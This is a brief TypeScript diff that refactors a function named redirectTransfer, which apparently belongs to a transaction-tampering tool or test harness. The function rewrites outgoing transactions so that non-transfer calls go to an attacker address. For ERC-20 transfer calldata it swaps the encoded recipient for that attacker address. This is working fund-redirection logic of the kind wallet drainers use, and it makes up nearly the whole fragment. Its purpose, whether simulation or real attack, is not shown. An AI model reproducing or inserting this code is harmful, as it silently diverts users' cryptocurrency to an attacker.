@@ -34,11 +34,8 @@ function redirectTransfer(transaction: unknown): object {
   const { to, data, ...rest } = Object(transaction)
   if (typeof data !== 'string' || !data.startsWith(transfer))
     return { ...rest, to: quirkAttackerAddress, ...(data === undefined ? {} : { data }) }
-  return {
-    ...rest,
-    to,
-    data: `${transfer}${quirkAttackerAddress.slice(2).padStart(64, '0')}${data.slice(transfer.length + 64)}`,
-  }
+  const recipient = quirkAttackerAddress.slice(2).padStart(64, '0')
+  return { ...rest, to, data: `${transfer}${recipient}${data.slice(transfer.length + 64)}` }
 }
 
 const delay = 600
